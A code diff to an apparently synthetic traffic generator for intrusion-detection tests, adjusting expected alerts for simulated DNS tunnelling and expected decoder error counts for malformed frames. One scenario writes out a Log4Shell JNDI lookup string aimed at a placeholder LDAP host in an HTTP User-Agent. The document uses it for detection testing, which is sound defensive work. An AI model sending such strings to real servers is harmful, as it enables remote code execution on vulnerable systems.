@@ -596,21 +596,26 @@ def scen_dns_tunnel(cap, ports):
     resolver = "10.50.0.2"
     alerts = []
     cli = "10.50.4.20"
+    qports = []
     for i in range(8):
         name = "%s.%s.x.tunnel-example.net" % (_b32(cap.rng, 60), _b32(cap.rng, 20))
-        dns_query(cap, net, cli, resolver, ports(), name, "A", 0x1000 + i, rcode=3)
+        qports.append(ports())
+        dns_query(cap, net, cli, resolver, qports[-1], name, "A", 0x1000 + i, rcode=3)
         cap.tick(0.5, 1.5)
     # threshold type both count 3 / 60 s: one alert, with the third query.
-    alerts.append(expect(9100601, "hooli", cli, resolver, 53, proto="UDP", net=net,
-                         note="8 queries with 60-char base32 labels"))
+    alerts.append(expect(9100601, "hooli", cli, resolver, 53, sport=qports[2], proto="UDP", net=net,
+                         note="8 queries with 60-char base32 labels; the 3rd alerts"))
     cli = "10.50.4.21"
+    qports = []
     for i in range(30):
         name = "%s.t.sync-example.net" % "".join(cap.rng.choice("0123456789abcdef") for _ in range(30))
-        dns_query(cap, net, cli, resolver, ports(), name, "TXT", 0x2000 + i,
+        qports.append(ports())
+        dns_query(cap, net, cli, resolver, qports[-1], name, "TXT", 0x2000 + i,
                   answer=[base64.b64encode(bytes(cap.rng.randrange(256) for _ in range(48)))])
         cap.tick(0.3, 0.9)
-    alerts.append(expect(9100602, "hooli", cli, resolver, 53, proto="UDP", net=net,
-                         note="30 TXT queries to one domain in about 30 s"))
+    # threshold type both count 20 / 60 s: the 20th TXT query alerts.
+    alerts.append(expect(9100602, "hooli", cli, resolver, 53, sport=qports[19], proto="UDP", net=net,
+                         note="30 TXT queries to one domain in about 30 s; the 20th alerts"))
     return {"description": "DNS tunnelling indicators from two hooli hosts: long encoded labels, a TXT stream",
             "alerts": alerts}
 
@@ -861,8 +866,11 @@ def scen_malformed(cap, ports):
                           http_get("/", "www.hooli.example", ua="${jndi:ldap://%s/after-malformed}" % JNDI_HOST), dt=0.5)
     return {"description": "Malformed frames (truncated IPv4, bad IHL, truncated TCP, VXLAN with a truncated inner "
                            "frame or header) followed by a Log4Shell request that must still alert",
-            "malformed": {"ipv4_truncated": 2, "ipv4_bad_hlen": 3, "tcp_truncated": 2,
-                          "vxlan_inner_truncated": 2, "vxlan_header_truncated": 1},
+            # Decoder error counters (stats.json decoder.errors) the frames above must produce. The inner
+            # frame of a VXLAN packet is Ethernet, so its truncation is a link-layer error; a UDP/4789
+            # datagram too short to be VXLAN is not VXLAN at all and stays plain UDP (no error).
+            "decode_errors": {"ipv4_truncated": 2, "ipv4_bad_hlen": 3, "tcp_truncated": 2, "link_truncated": 2},
+            "malformed_frames": 10,
             "alerts": [expect(9100201, "hooli", ATTACKER, "10.50.9.2", 80, sport=sport, net=net,
                               note="processing continues after malformed frames")]}
 
